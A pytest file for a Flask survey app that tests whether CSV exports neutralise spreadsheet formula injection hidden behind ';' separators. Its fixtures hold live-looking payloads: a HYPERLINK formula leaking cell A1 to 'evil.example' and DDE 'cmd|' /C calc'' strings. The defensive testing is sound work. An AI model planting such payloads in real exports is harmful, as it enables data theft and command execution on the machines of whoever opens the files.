"""Spreadsheet formulas hidden behind a separator. Excel opens a ``.csv`` with the system's list
separator, which is ";" wherever a comma is the decimal mark (Italy and France among them, two
of the service's three languages). A cell the export writes unquoted, ``Laptops;=HYPERLINK(...)``,
is then split in two there, and the second cell starts with "=": the leading-quote guard of
``csv_cells.safe_cell`` only looks at the start of the whole value. Attack: a manager names an
action so, a person's name arrives so through the people import, an administrator names a
department so; a reviewer or an administrator opens the export.

Each export is read here as such a spreadsheet reads it: split on ";" (quotes respected) and on
"," alike; no cell may start like a formula."""

from __future__ import annotations

import csv
import io
from typing import Any

from flask.testing import FlaskClient
from sqlalchemy.orm import Session

from survey.models import Department
from tests.conftest import post_form

FORMULA = ("=", "+", "-", "@", "\t", "\r")
HIDDEN = 'Laptops;=HYPERLINK("http://evil.example/?"&A1;"Open");"=2+2"'
# A line break inside a cell: a reader splitting on ";" sees the comma quoting (which keeps the
# break inside the cell) only where a quote opens a ";" cell, so the break starts a new row.
BROKEN = "Spare laptops\r\n@SUM(1+1)*cmd|' /C calc'!A0"


def _formula_cells(body: bytes) -> list[str]:
    text = body.decode("utf-8-sig")
    found = []
    for delimiter in (";", ","):
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
            found += [cell for cell in row if cell.startswith(FORMULA) and not _number(cell)]
    return found


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_no_export_hides_a_formula_behind_a_semicolon(
    admin_client: FlaskClient, session: Session, make_user: Any, sign_in: Any, app: Any
) -> None:
    department = Department(code="HID", name=HIDDEN)
    session.add(department)
    session.commit()
    manager = sign_in(make_user("manager", department_id=department.id), on=app.test_client())
    saved = post_form(
        manager,
        "/actions/HID/new",
        {"title": HIDDEN, "description": BROKEN, "target": "component:T", "status": "planned"},
    )
    assert saved.status_code == 302, saved.get_data(as_text=True)[:2000]
    renamed = post_form(
        admin_client, f"/admin/departments/{department.id}", {"code": "HID", "name": HIDDEN + "!"}
    )
    assert renamed.status_code == 302
    for url in ("/actions/export.csv", "/admin/audit.csv", "/scorecards/HID.csv"):
        response = admin_client.get(url)
        assert response.status_code == 200, url
        assert HIDDEN.split(";")[0] in response.get_data(as_text=True), url
        assert _formula_cells(response.get_data()) == [], url


ORDINARY = ["Smith-Jones", "a;b", "Laptops; spare", "2026Q1", "-5", "+1", "-0.5", "a;-5", 'a;"-5"']


def test_ordinary_text_and_plain_numbers_are_left_as_they_are() -> None:
    """A text that is a plain number ("-5", "+1", a ";" cell of one) is not a formula that can
    run anything: a spreadsheet reads it as the number it says, and a quote before it would
    show in the cell. Numbers stay numbers; a formula start still gets its quote."""
    from survey.services.csv_cells import safe_cell

    assert [safe_cell(text) for text in ORDINARY] == ORDINARY
    assert [safe_cell(-5), safe_cell(-0.504), safe_cell(0)] == [-5, -0.5, 0]
    assert safe_cell("-5+cmd|' /C calc'!A0") == "'-5+cmd|' /C calc'!A0"
    assert safe_cell("-5;=1+1") == "'-5;'=1+1"
    assert safe_cell("a;-5x") == "a;'-5x"
    assert safe_cell("'=cmd()") == "'=cmd()"  # quoted once, never twice
    assert safe_cell(safe_cell("a;=cmd()\n@x")) == "a;'=cmd()\n'@x"


def test_an_action_titled_with_a_number_exports_it_unchanged(
    admin_client: FlaskClient, session: Session, make_user: Any, sign_in: Any, app: Any
) -> None:
    department = Department(code="NUM", name="Numbers")
    session.add(department)
    session.commit()
    manager = sign_in(make_user("manager", department_id=department.id), on=app.test_client())
    saved = post_form(
        manager,
        "/actions/NUM/new",
        {"title": "-5", "description": "a;-5", "target": "component:T", "status": "planned"},
    )
    assert saved.status_code == 302, saved.get_data(as_text=True)[:2000]
    text = admin_client.get("/actions/export.csv").get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(text)))
    row = dict(zip(rows[0], rows[-1], strict=True))
    assert (row["title"], row["description"]) == ("-5", "a;-5")
